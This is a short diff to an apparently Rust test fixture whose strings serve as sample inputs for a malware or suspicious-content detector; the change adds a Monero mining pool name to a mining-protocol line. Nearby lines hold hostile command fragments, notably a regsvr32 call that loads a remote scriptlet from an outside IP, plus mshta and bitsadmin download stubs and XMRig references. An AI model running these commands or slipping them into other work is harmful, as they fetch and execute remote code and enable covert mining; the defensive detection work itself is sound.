@@ -70,7 +70,7 @@ fn files() -> Vec<Vec<u8>> {
         "trafficconverter.biz loadadv.exe",
         "www.getmyip.org checkip.dyndns.org getmyip.co.uk",
         "XMRig --donate-level 1",
-        "stratum+tcp://x stratum+udp://y",
+        "stratum+tcp://x stratum+udp://y minexmr.com hashrate",
         "mshta http://x",
         "regsvr32 /s /i:http://203.0.113.7/x scrobj.dll",
         "bitsadmin /transfer x",
